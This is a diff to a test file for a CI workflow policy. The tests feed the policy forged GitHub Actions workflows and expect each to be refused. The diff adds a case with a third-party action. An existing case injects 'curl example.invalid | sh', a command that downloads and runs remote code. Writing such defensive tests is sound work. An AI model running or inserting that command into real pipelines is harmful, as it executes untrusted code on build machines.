@@ -68,6 +68,11 @@ describe("the policy refuses each forgery, and passes the same workflow without 
       "an expression pasted into the shell",
     ],
     [
+      "an action from outside GitHub's own",
+      ci.replace("uses: actions/cache/restore@v4", "uses: someone/cache-restore@v4"),
+      "someone/cache-restore@v4: only GitHub's own actions",
+    ],
+    [
       "a step that is no npm script",
       ci.replace("      - run: npm run typecheck\n", "      - run: npx tsc --noEmit && curl example.invalid | sh\n"),
       "not one npm script, npm ci or a package install",
